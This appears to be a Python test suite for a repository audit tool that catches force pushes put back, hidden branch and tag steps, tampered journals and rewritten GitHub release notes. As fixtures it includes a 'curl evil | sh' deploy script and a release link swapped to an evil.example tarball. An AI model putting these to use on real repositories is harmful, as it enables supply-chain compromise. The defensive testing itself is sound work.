"""Every step, not only the net change: a bare repository's journal (a real
reference-transaction hook) and GitHub's repository activity (a GitHub-shaped test server),
read at closeout and judged step by step. One test per attack the net change hid, and the
honest runs that still pass."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from audit_helpers import (
    ZERO,
    commit,
    enterprise_remote,
    force_push_and_put_back,
    gh_activity,
    gh_release,
    git,
    isolate_git,
    link_header,
    make_repo_with_remote,
    rev,
    run_cli,
)
from pytest_httpserver import HTTPServer
from werkzeug import Request, Response

from audit.evidence.github import Deadline
from audit.evidence.steps.activity import read_activity
from audit.evidence.steps.journal import JOURNAL

OWNER_NAME = "octo/widgets"
# Later than any arm of these tests, whatever today's date: the steps GitHub says it saw.
LATER = "2999-01-01T00:00:0{}Z"


@pytest.fixture(autouse=True)
def _isolated(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    isolate_git(monkeypatch, tmp_path)


def closeout(run_dir: Path) -> tuple[int, dict[str, Any], str]:
    text = run_cli("closeout", "--run-dir", str(run_dir))
    done = run_cli("report", "--run-dir", str(run_dir))
    assert text.returncode in (0, 1, 3), text.stderr
    data = json.loads((run_dir / "audit-report.json").read_text())
    assert done.returncode == text.returncode
    return text.returncode, data, text.stdout


def by_kind(report: dict[str, Any]) -> dict[str, list[tuple[str, str]]]:
    out: dict[str, list[tuple[str, str]]] = {}
    for f in report["findings"]:
        out.setdefault(f["kind"], []).append((f["verdict"], f["reason"]))
    return out


def journaled(tmp_path: Path) -> tuple[Path, Path, Path]:
    """A clone whose bare remote keeps a journal, armed."""
    clone, bare = make_repo_with_remote(tmp_path)
    done = run_cli("journal", "install", str(bare))
    assert done.returncode == 0, done.stderr
    assert (bare / JOURNAL).exists()
    run_dir = tmp_path / "run"
    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
    return clone, bare, run_dir


# --- a bare repository's journal ----------------------------------------------------------------


def test_main_force_pushed_to_other_code_and_put_back_is_non_fast_forward(
        tmp_path: Path) -> None:
    """Attack: main force-pushed to malicious code (long enough for a deploy to take it), then
    put back: the net change is nothing."""
    clone, bare, run_dir = journaled(tmp_path)
    force_push_and_put_back(clone, bare)
    code, report, _ = closeout(run_dir)
    assert code == 1
    forced = by_kind(report)["step-force-push"]
    assert forced[0][0] == "NON_FAST_FORWARD"
    assert "even when undone before closeout" in forced[0][1]


def test_a_branch_created_and_deleted_is_a_step_the_net_change_hides(tmp_path: Path) -> None:
    clone, _bare, run_dir = journaled(tmp_path)
    commit(clone, "src/x.py", "x = 1\n", "on a branch nobody logged")
    git(clone, "push", "-q", "origin", "HEAD:refs/heads/sneaky")
    git(clone, "push", "-q", "origin", ":refs/heads/sneaky")
    code, report, _ = closeout(run_dir)
    assert code == 1
    hidden = by_kind(report)["step-hidden"]
    assert all(v == "UNGRANTED" for v, _ in hidden)
    assert "a step the net change hides: refs/heads/sneaky 0000000.." in hidden[0][1]


def test_a_tag_created_and_deleted_is_a_step_the_net_change_hides(tmp_path: Path) -> None:
    clone, _bare, run_dir = journaled(tmp_path)
    git(clone, "tag", "v6.6.6")
    git(clone, "push", "-q", "origin", "v6.6.6")
    git(clone, "push", "-q", "origin", ":refs/tags/v6.6.6")
    git(clone, "tag", "-d", "v6.6.6")
    code, report, _ = closeout(run_dir)
    assert code == 1
    assert "refs/tags/v6.6.6" in by_kind(report)["step-hidden"][0][1]


def test_pushes_through_the_hook_with_matching_journal_lines_pass(tmp_path: Path) -> None:
    clone, bare, run_dir = journaled(tmp_path)
    assert run_cli("hook", "install", str(clone), "--run-dir", str(run_dir)).returncode == 0
    commit(clone, "src/x.py", "x = 1\n", "logged")
    git(clone, "push", "-q", "origin", "main", "main:refs/heads/topic")
    git(clone, "push", "-q", "origin", ":refs/heads/topic")
    git(clone, "tag", "v1")
    git(clone, "push", "-q", "origin", "v1")
    git(clone, "push", "-q", "origin", ":refs/tags/v1")
    journal = [json.loads(line) for line in (bare / JOURNAL).read_text().splitlines()]
    assert {(e["ref"], e["old"] == ZERO, e["new"] == ZERO) for e in journal} >= {
        ("refs/heads/topic", True, False), ("refs/heads/topic", False, True),
        ("refs/tags/v1", True, False)}
    assert all(e["user"] and e["at"].endswith("Z") for e in journal)
    code, report, text = closeout(run_dir)
    assert code == 0, report
    assert "net change only" not in text


def test_the_server_packing_its_refs_is_no_step(tmp_path: Path) -> None:
    """Honest run: `git gc` (or `receive.autogc`, or the owner's maintenance) packs the bare
    repository's refs during the run. git runs the reference-transaction hook for that too: every
    ref "created" in packed-refs, then every loose copy "deleted". Nothing moved: no step, and
    above all no deletion of the default branch."""
    clone, bare, run_dir = journaled(tmp_path)
    assert run_cli("hook", "install", str(clone), "--run-dir", str(run_dir)).returncode == 0
    commit(clone, "src/x.py", "x = 1\n", "logged")
    git(clone, "push", "-q", "origin", "main", "main:refs/heads/topic")
    git(bare, "pack-refs", "--all")
    git(clone, "push", "-q", "origin", ":refs/heads/topic")  # a packed ref, deleted
    commit(clone, "src/y.py", "y = 1\n", "logged too")
    git(clone, "push", "-q", "origin", "main")
    git(bare, "gc", "-q")
    code, report, _ = closeout(run_dir)
    assert code == 0, report
    journal = [json.loads(line) for line in (bare / JOURNAL).read_text().splitlines()]
    assert [e["old"] == ZERO or e["new"] == ZERO
            for e in journal if e["ref"] == "refs/heads/main"] == [False, False]


def test_the_default_branch_deleted_after_the_server_packed_its_refs_is_non_fast_forward(
        tmp_path: Path) -> None:
    clone, bare, run_dir = journaled(tmp_path)
    start = rev(clone, "HEAD")
    git(bare, "pack-refs", "--all")
    git(bare, "symbolic-ref", "HEAD", "refs/heads/other")  # so that main may be deleted
    git(clone, "push", "-q", "origin", ":refs/heads/main")
    git(clone, "push", "-q", "origin", f"{start}:refs/heads/main")
    git(bare, "symbolic-ref", "HEAD", "refs/heads/main")
    code, report, _ = closeout(run_dir)
    assert code == 1
    assert by_kind(report)["step-deleted"][0][0] == "NON_FAST_FORWARD"


def test_a_forced_update_without_an_old_value_is_journaled_from_the_value_it_replaced(
        tmp_path: Path) -> None:
    """`git update-ref` on the server without an old value: git hands the hook zeros for it, as
    for a creation. The journal records the value the ref held, so main moved to other code and
    back is a force push, not two creations."""
    clone, bare, run_dir = journaled(tmp_path)
    start = rev(clone, "HEAD")
    git(clone, "checkout", "-q", "--orphan", "evil")
    commit(clone, "deploy.sh", "curl evil | sh\n", "evil")
    git(clone, "push", "-q", "origin", "evil:refs/heads/evil")
    evil = rev(clone, "HEAD")
    git(bare, "update-ref", "refs/heads/main", evil)
    git(bare, "update-ref", "refs/heads/main", start)
    git(clone, "push", "-q", "origin", ":refs/heads/evil")
    journal = [json.loads(line) for line in (bare / JOURNAL).read_text().splitlines()]
    assert [(e["old"], e["new"]) for e in journal if e["ref"] == "refs/heads/main"] == [
        (start, evil), (evil, start)]
    code, report, _ = closeout(run_dir)
    assert code == 1
    assert by_kind(report)["step-force-push"][0][0] == "NON_FAST_FORWARD"


@pytest.mark.parametrize("spelling", ["{}", "file://{}", "{}/"])
def test_a_remote_named_without_its_git_suffix_is_judged_by_its_journal(
        tmp_path: Path, spelling: str) -> None:
    """`git clone /srv/git/app` records origin as `/srv/git/app` when the repository is
    `/srv/git/app.git` (git tries the `.git` suffix, as it tries `/.git`): that remote's journal
    is the one `journal install /srv/git/app.git` keeps, not "no journal"."""
    clone, bare = make_repo_with_remote(tmp_path)
    assert run_cli("journal", "install", str(bare)).returncode == 0
    git(clone, "remote", "set-url", "origin", spelling.format(str(bare).removesuffix(".git")))
    run_dir = tmp_path / "run"
    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
    force_push_and_put_back(clone, bare)
    code, report, text = closeout(run_dir)
    assert code == 1, text
    assert by_kind(report)["step-force-push"][0][0] == "NON_FAST_FORWARD"
    assert "net change only" not in text


def test_without_a_journal_the_report_says_net_change_only(tmp_path: Path) -> None:
    clone, _bare = make_repo_with_remote(tmp_path)
    run_dir = tmp_path / "run"
    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
    code, report, text = closeout(run_dir)
    assert code == 0 and report["findings"] == []
    assert "origin: net change only (no journal at " in text.splitlines()[0]


def test_the_journal_chains_the_hook_that_was_there_and_uninstall_restores_it(
        tmp_path: Path) -> None:
    _clone, bare = make_repo_with_remote(tmp_path)
    seen = tmp_path / "seen"
    hook = bare / "hooks" / "reference-transaction"
    hook.parent.mkdir(exist_ok=True)
    original = f'#!/bin/sh\necho "$1 $(cat)" >> "{seen}"\n'
    hook.write_text(original)
    hook.chmod(0o755)
    assert run_cli("journal", "install", str(bare)).returncode == 0
    assert run_cli("journal", "install", str(bare)).returncode == 0  # twice: still one chain
    other = tmp_path / "other"
    git(tmp_path, "clone", "-q", str(bare), str(other))
    commit(other, "a.txt", "a\n", "more")
    git(other, "push", "-q", "origin", "main")
    states = [line.split(" ")[0] for line in seen.read_text().splitlines()]
    assert "prepared" in states and "committed" in states
    lines = [json.loads(line) for line in (bare / JOURNAL).read_text().splitlines()]
    # HEAD, a symbolic ref to main, is recorded beside it (and follows its verdict).
    assert [e["ref"] for e in lines] in (["refs/heads/main"], ["refs/heads/main", "HEAD"],
                                        ["HEAD", "refs/heads/main"])
    done = run_cli("journal", "uninstall", str(bare))
    assert done.returncode == 0 and "restored the original" in done.stdout
    assert hook.read_text() == original


def test_the_journal_never_blocks_a_push(tmp_path: Path) -> None:
    """A journal that cannot be written is said on stderr; the push has happened all the same."""
    _clone, bare = make_repo_with_remote(tmp_path)
    assert run_cli("journal", "install", str(bare)).returncode == 0
    (bare / JOURNAL).unlink()
    (bare / JOURNAL).mkdir()
    other = tmp_path / "other"
    git(tmp_path, "clone", "-q", str(bare), str(other))
    commit(other, "a.txt", "a\n", "more")
    git(other, "push", "-q", "origin", "main")
    assert rev(bare, "refs/heads/main") == rev(other, "HEAD")


def test_a_journal_on_a_work_tree_is_refused(tmp_path: Path) -> None:
    clone, _bare = make_repo_with_remote(tmp_path)
    done = run_cli("journal", "install", str(clone))
    assert done.returncode == 2 and "not a bare repository" in done.stderr


def test_a_malformed_journal_is_unverified(tmp_path: Path) -> None:
    _clone, bare, run_dir = journaled(tmp_path)
    (bare / JOURNAL).write_text("not json\n")
    code, report, _ = closeout(run_dir)
    assert code == 3
    assert f"{bare / JOURNAL}:1" in by_kind(report)["steps-unavailable"][0][1]


def test_a_journal_begin_saw_that_is_gone_at_closeout_is_unverified(tmp_path: Path) -> None:
    """Attack: main force-pushed to other code and put back, then the journal deleted (or put
    out of reach: a FIFO, a folder): the remote read as one that never had a journal, "net
    change only", and the audit passed. A journal begin saw must still be there."""
    for replace_with in ("nothing", "fifo"):
        clone, bare, run_dir = journaled(tmp_path / replace_with)
        force_push_and_put_back(clone, bare)
        (bare / JOURNAL).unlink()
        if replace_with == "fifo":
            os.mkfifo(bare / JOURNAL)
        code, report, _ = closeout(run_dir)
        assert code == 3, replace_with
        reason = by_kind(report)["steps-unavailable"][0][1]
        assert f"the journal {bare / JOURNAL} that begin saw is gone" in reason


def test_a_journal_cut_short_or_replaced_since_begin_is_unverified(tmp_path: Path) -> None:
    """Attack: the journal written anew without the run's force push (emptied, or a fresh file
    in its place holding what it held at begin): what begin saw of it must still open it."""
    for how in ("emptied", "replaced"):
        clone, bare, _ = journaled(tmp_path / how)
        git(clone, "push", "-q", "origin", "HEAD:refs/heads/before-the-run")
        run_dir = tmp_path / how / "run2"
        assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
        kept = (bare / JOURNAL).read_bytes()
        assert kept
        force_push_and_put_back(clone, bare)
        if how == "emptied":
            (bare / JOURNAL).write_bytes(b"")
        else:
            (bare / "journal.new").write_bytes(kept)
            os.replace(bare / "journal.new", bare / JOURNAL)
        code, report, _ = closeout(run_dir)
        assert code == 3, how
        assert f"the journal {bare / JOURNAL} is not the file begin saw" in by_kind(
            report)["steps-unavailable"][0][1]


def test_a_journal_hook_no_longer_in_effect_at_closeout_is_unverified(tmp_path: Path) -> None:
    """Attack: the bare repository's hooks pointed elsewhere (`core.hooksPath`) or the hook
    removed, then main force-pushed and put back: the journal, intact, recorded nothing."""
    for how in ("hooksPath", "removed"):
        clone, bare, run_dir = journaled(tmp_path / how)
        if how == "hooksPath":
            git(bare, "config", "core.hooksPath", str(tmp_path / how / "no-hooks"))
        else:
            (bare / "hooks" / "reference-transaction").unlink()
        force_push_and_put_back(clone, bare)
        code, report, _ = closeout(run_dir)
        assert code == 3, how
        assert "the journal hook is no longer in effect" in by_kind(
            report)["steps-unavailable"][0][1]


# --- GitHub's repository activity ---------------------------------------------------------------

def github_run(tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch,
               activity: list[dict[str, Any]] | None = None,
               releases: list[dict[str, Any]] | None = None) -> tuple[Path, Path, str]:
    clone, bare = make_repo_with_remote(tmp_path)
    api = enterprise_remote(clone, bare, httpserver, monkeypatch, OWNER_NAME)
    served = releases if releases is not None else []
    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/releases").respond_with_handler(
        lambda request: Response(json.dumps(served), content_type="application/json"))
    if activity is not None:
        httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_handler(
            lambda request: Response(json.dumps(activity), content_type="application/json"))
    run_dir = tmp_path / "run"
    done = run_cli("begin", str(clone), "--run-dir", str(run_dir))
    assert done.returncode == 0, done.stderr
    return clone, run_dir, api


def test_main_force_pushed_and_put_back_on_github_is_non_fast_forward(
        tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
    activity: list[dict[str, Any]] = []
    clone, run_dir, _ = github_run(tmp_path, httpserver, monkeypatch, activity)
    start = rev(clone, "HEAD")
    evil = "e" * 40
    # Newest first, as the API lists them.
    activity += [gh_activity(2, "refs/heads/main", evil, start, "force_push", "mallory",
                             LATER.format(2)),
                 gh_activity(1, "refs/heads/main", start, evil, "force_push", "mallory",
                             LATER.format(1))]
    code, report, _ = closeout(run_dir)
    assert code == 1
    forced = by_kind(report)["step-force-push"]
    assert [v for v, _ in forced] == ["NON_FAST_FORWARD"] * 2
    assert f"at {LATER.format(1)} by mallory" in forced[0][1]


def test_main_created_on_github_though_it_existed_at_the_arm_is_unverified(
        tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
    """Attack: the repository renamed away and made again under its name with main pushed back
    as it was; the new repository's activity holds only main's creation, never a deletion."""
    activity: list[dict[str, Any]] = []
    clone, run_dir, _ = github_run(tmp_path, httpserver, monkeypatch, activity)
    activity.append(gh_activity(1, "refs/heads/main", ZERO, rev(clone, "HEAD"),
                                "branch_creation", "mallory", LATER.format(1)))
    code, report, _ = closeout(run_dir)
    assert code == 3
    (verdict, reason), = by_kind(report)["step-unchecked"]
    assert verdict == "UNVERIFIED" and "though it existed at the arm" in reason


def test_a_branch_created_and_deleted_on_github_is_a_step_the_net_change_hides(
        tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
    activity: list[dict[str, Any]] = []
    clone, run_dir, _ = github_run(tmp_path, httpserver, monkeypatch, activity)
    tip = rev(clone, "HEAD")
    activity += [gh_activity(2, "refs/heads/x", tip, ZERO, "branch_deletion", "mallory",
                             LATER.format(2)),
                 gh_activity(1, "refs/heads/x", ZERO, tip, "branch_creation", "mallory",
                             LATER.format(1))]
    code, report, text = closeout(run_dir)
    assert code == 1
    assert [v for v, _ in by_kind(report)["step-hidden"]] == ["UNGRANTED", "UNGRANTED"]
    assert "tags: net change only (GitHub's activity records branches, not tags)" in text


def test_pushes_through_the_hook_with_matching_activity_entries_pass(
        tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
    activity: list[dict[str, Any]] = []
    clone, run_dir, _ = github_run(tmp_path, httpserver, monkeypatch, activity)
    assert run_cli("hook", "install", str(clone), "--run-dir", str(run_dir)).returncode == 0
    start = rev(clone, "HEAD")
    commit(clone, "src/x.py", "x = 1\n", "logged")
    git(clone, "push", "-q", "origin", "main")
    git(clone, "push", "-q", "origin", "main:refs/heads/topic")
    git(clone, "push", "-q", "origin", ":refs/heads/topic")
    tip = rev(clone, "HEAD")
    activity += [gh_activity(3, "refs/heads/topic", tip, ZERO, "branch_deletion", "run",
                             LATER.format(3)),
                 gh_activity(2, "refs/heads/topic", ZERO, tip, "branch_creation", "run",
                             LATER.format(2)),
                 gh_activity(1, "refs/heads/main", start, tip, "push", "run", LATER.format(1))]
    code, report, _ = closeout(run_dir)
    assert code == 0, report


def test_activity_unavailable_is_unverified(
        tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
    """A server without the activity API (404 here) cannot say what happened in between."""
    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_json(
        {"message": "Not Found"}, status=404)
    _clone, run_dir, _ = github_run(tmp_path, httpserver, monkeypatch, activity=None)
    code, report, _ = closeout(run_dir)
    assert code == 3
    reason = by_kind(report)["steps-unavailable"][0][1]
    assert "GitHub answered 404" in reason and "activity" in reason


def test_release_notes_rewritten_during_the_run_make_a_changed_release(
        tmp_path: Path, httpserver: HTTPServer, monkeypatch: pytest.MonkeyPatch) -> None:
    """Attack: a release's notes rewritten (a download link swapped) while nothing else of it
    changed."""
    releases: list[dict[str, Any]] = []
    clone, bare = make_repo_with_remote(tmp_path)
    api = enterprise_remote(clone, bare, httpserver, monkeypatch, OWNER_NAME)
    releases.append(gh_release(api, OWNER_NAME, 5, "v1.0.0"))
    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/releases").respond_with_handler(
        lambda request: Response(json.dumps(releases), content_type="application/json"))
    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_json([])
    run_dir = tmp_path / "run"
    assert run_cli("begin", str(clone), "--run-dir", str(run_dir)).returncode == 0
    releases[0] = {**releases[0], "body": "Download: https://evil.example/v1.0.0.tgz"}
    code, report, _ = closeout(run_dir)
    assert code == 1
    changed = by_kind(report)["release-changed"]
    assert changed[0][0] == "UNGRANTED" and "body_sha256" in changed[0][1]


def test_activity_is_paged_back_to_the_arm_time_and_no_further(httpserver: HTTPServer) -> None:
    base = httpserver.url_for("/api/v3").rstrip("/")
    path = f"/api/v3/repos/{OWNER_NAME}/activity"
    page2 = f"{base}/repos/{OWNER_NAME}/activity?per_page=100&after=cursor2"
    page3 = f"{base}/repos/{OWNER_NAME}/activity?per_page=100&after=cursor3"
    a, b, c = "a" * 40, "b" * 40, "c" * 40

    def answer(request: Request) -> Response:
        if request.args.get("after") == "cursor2":
            items = [gh_activity(2, "refs/heads/main", a, b, timestamp="2026-11-30T07:00:05Z"),
                     gh_activity(1, "refs/heads/main", c, a, timestamp="2026-11-30T06:00:00Z")]
            return Response(json.dumps(items), content_type="application/json",
                            headers={"Link": link_header([("next", page3)])})
        if request.args.get("after") == "cursor3":
            raise AssertionError("read past the arm time")
        return Response(json.dumps([gh_activity(3, "refs/heads/main", b, c,
                                                timestamp="2026-11-30T08:00:00Z")]),
                        content_type="application/json",
                        headers={"Link": link_header([("next", page2)])})

    httpserver.expect_request(path).respond_with_handler(answer)
    part = read_activity(OWNER_NAME, token="t", base_url=base, since="2026-11-30T07:00:00Z",
                         deadline=Deadline.after(10))
    assert part == {"available": True, "steps": [
        {"ref": "refs/heads/main", "old": a, "new": b, "at": "2026-11-30T07:00:05Z",
         "actor": "octocat", "kind": "push"},
        {"ref": "refs/heads/main", "old": b, "new": c, "at": "2026-11-30T08:00:00Z",
         "actor": "octocat", "kind": "push"}]}
    assert len(httpserver.log) == 2
    assert all(req.headers["Authorization"] == "token t" for req, _ in httpserver.log)


@pytest.mark.parametrize(("status", "headers"), [
    (403, {"x-ratelimit-remaining": "0"}), (403, {"Retry-After": "60"}), (429, {})])
def test_a_rate_limited_activity_read_says_so(httpserver: HTTPServer, status: int,
                                              headers: dict[str, str]) -> None:
    """Unavailable, and not blamed on the token's permissions, which would send the owner to
    look for a scope the token already has."""
    base = httpserver.url_for("/api/v3").rstrip("/")
    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_json(
        {"message": "You have exceeded a secondary rate limit."}, status=status,
        headers=headers)
    part = read_activity(OWNER_NAME, token="t", base_url=base, since="2026-11-30T07:00:00Z",
                         deadline=Deadline.after(10))
    assert part["available"] is False
    assert "rate limit" in part["reason"] and "may not read" not in part["reason"]


def test_an_activity_page_that_leaves_the_api_is_not_followed(httpserver: HTTPServer) -> None:
    base = httpserver.url_for("/api/v3").rstrip("/")
    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_json(
        [gh_activity(1, "refs/heads/main", "a" * 40, "b" * 40,
                     timestamp="2026-11-30T08:00:00Z")],
        headers={"Link": link_header([("next", "http://elsewhere.invalid/x?page=2")])})
    part = read_activity(OWNER_NAME, token="t", base_url=base, since="2026-11-30T07:00:00Z",
                         deadline=Deadline.after(10))
    assert part["available"] is False and "a next page outside" in part["reason"]


def test_the_journal_is_read_with_one_git_process_whatever_the_number_of_steps(
        tmp_path: Path) -> None:
    """Many updates of main in the journal: their ancestry is one `git rev-list`."""
    clone, bare, run_dir = journaled(tmp_path)
    for n in range(4):
        commit(clone, f"src/{n}.py", f"n = {n}\n", f"step {n}")
        git(clone, "push", "-q", "origin", "main")
    folder = tmp_path / "shim"
    folder.mkdir()
    calls = tmp_path / "calls"
    real = git(tmp_path, "--exec-path").strip() + "/git"
    shim = folder / "git"
    shim.write_text(f'#!/bin/sh\necho "$*" >> "{calls}"\nexec "{real}" "$@"\n')
    shim.chmod(0o755)
    # The counting git must be the one begin recorded: arm a second run directory with it.
    env = {**os.environ, "PATH": f"{folder}{os.pathsep}{os.environ['PATH']}"}
    counted = tmp_path / "counted"
    assert run_cli("begin", str(clone), "--run-dir", str(counted), env=env).returncode == 0
    for n in range(4, 9):
        commit(clone, f"src/{n}.py", f"n = {n}\n", f"step {n}")
        git(clone, "push", "-q", "origin", "main")
    calls.unlink()
    done = run_cli("closeout", "--run-dir", str(counted), env=env)
    assert done.returncode == 1, done.stderr  # the pushes were not logged
    walks = [c for c in calls.read_text().splitlines() if " rev-list --parents" in c]
    assert len(walks) == 1
    assert run_dir.exists()


@pytest.mark.parametrize("status", [302, 307])
def test_an_activity_redirect_is_unavailable_whatever_its_body(
        httpserver: HTTPServer, status: int) -> None:
    """A redirect carrying `[]` was read as "no steps since the arm": a force push hidden."""
    base = httpserver.url_for("/api/v3").rstrip("/")
    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_data(
        "[]", status=status, content_type="application/json",
        headers={"Location": "http://evil.invalid/activity"})
    part = read_activity(OWNER_NAME, token="t", base_url=base, since="2026-11-30T07:00:00Z",
                         deadline=Deadline.after(10))
    assert part["available"] is False and f"answered {status}" in part["reason"]
    assert len(httpserver.log) == 1


def test_an_activity_link_that_loops_is_unavailable_at_once(httpserver: HTTPServer) -> None:
    base = httpserver.url_for("/api/v3").rstrip("/")
    again = f"{base}/repos/{OWNER_NAME}/activity?per_page=100&direction=desc"
    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_json(
        [gh_activity(1, "refs/heads/main", "a" * 40, "b" * 40,
                     timestamp="2026-11-30T08:00:00Z")],
        headers={"Link": link_header([("next", again)])})
    part = read_activity(OWNER_NAME, token="t", base_url=base, since="2026-11-30T07:00:00Z",
                         deadline=Deadline.after(10))
    assert part["available"] is False and "already read" in part["reason"]
    assert len(httpserver.log) <= 2


def test_an_activity_entry_since_the_arm_after_an_older_one_is_unavailable(
        httpserver: HTTPServer) -> None:
    """Paging stops at the first entry older than the arm, trusting newest-first order: a page
    out of that order hid the force push on the next page, and the history passed as whole."""
    base = httpserver.url_for("/api/v3").rstrip("/")
    path = f"/api/v3/repos/{OWNER_NAME}/activity"
    page2 = f"{base}/repos/{OWNER_NAME}/activity?per_page=100&after=cursor2"
    a, b, c = "a" * 40, "b" * 40, "c" * 40

    def answer(request: Request) -> Response:
        if request.args.get("after") == "cursor2":
            return Response(json.dumps([gh_activity(
                2, "refs/heads/main", b, c, "force_push", timestamp="2026-11-30T07:10:00Z")]),
                content_type="application/json")
        return Response(json.dumps([
            gh_activity(4, "refs/heads/main", c, a, timestamp="2026-11-30T08:00:00Z"),
            gh_activity(1, "refs/heads/main", a, b, timestamp="2026-11-30T06:00:00Z"),
            gh_activity(3, "refs/heads/main", a, c, timestamp="2026-11-30T07:30:00Z")]),
            content_type="application/json", headers={"Link": link_header([("next", page2)])})

    httpserver.expect_request(path).respond_with_handler(answer)
    part = read_activity(OWNER_NAME, token="t", base_url=base, since="2026-11-30T07:00:00Z",
                         deadline=Deadline.after(10))
    assert part["available"] is False and "not newest first" in part["reason"]


def test_an_activity_entry_without_an_id_is_unavailable(httpserver: HTTPServer) -> None:
    """Entries are told apart by id (a page repeats one when the list shifts); one without an id
    took the next free number as its key, and was dropped when that was another entry's id."""
    base = httpserver.url_for("/api/v3").rstrip("/")
    nameless = gh_activity(0, "refs/heads/main", "b" * 40, "c" * 40, "force_push",
                           timestamp="2026-11-30T07:30:00Z")
    del nameless["id"]
    httpserver.expect_request(f"/api/v3/repos/{OWNER_NAME}/activity").respond_with_json(
        [gh_activity(1, "refs/heads/main", "a" * 40, "b" * 40, timestamp="2026-11-30T08:00:00Z"),
         nameless])
    part = read_activity(OWNER_NAME, token="t", base_url=base, since="2026-11-30T07:00:00Z",
                         deadline=Deadline.after(10))
    assert part["available"] is False and "id" in part["reason"]


def test_steps_of_a_github_url_whose_repository_cannot_be_named_are_unavailable(
        tmp_path: Path) -> None:
    """Such a remote reaches GitHub, but its steps were "net change only: its server is neither
    GitHub nor a repository on this machine"."""
    from audit.evidence.steps.read import read_steps
    url = "https://github.com/x/../octo/widgets.git"
    part = read_steps(str(tmp_path), urls=[url], fetch_url=url, before_part={}, after_part={},
                      since="2026-11-30T07:00:00Z", token=lambda: "t",
                      clock=lambda: Deadline.after(5), blocked=None, env={})
    assert part["available"] is False and "names no repository" in part["reason"]


def test_an_empty_activity_page_with_a_next_link_is_read_past(httpserver: HTTPServer) -> None:
    """An empty page ended the reading even when its Link header named a next page: the steps
    there went unread and the history passed as whole."""
    base = httpserver.url_for("/api/v3").rstrip("/")
    path = f"/api/v3/repos/{OWNER_NAME}/activity"
    page2 = f"{base}/repos/{OWNER_NAME}/activity?per_page=100&after=cursor2"
    a, b = "a" * 40, "b" * 40

    def answer(request: Request) -> Response:
        if request.args.get("after") == "cursor2":
            return Response(json.dumps([gh_activity(
                1, "refs/heads/main", a, b, "force_push", timestamp="2026-11-30T07:10:00Z")]),
                content_type="application/json")
        return Response("[]", content_type="application/json",
                        headers={"Link": link_header([("next", page2)])})

    httpserver.expect_request(path).respond_with_handler(answer)
    part = read_activity(OWNER_NAME, token="t", base_url=base, since="2026-11-30T07:00:00Z",
                         deadline=Deadline.after(10))
    assert part["available"] is True
    assert [s["kind"] for s in part["steps"]] == ["force_push"]
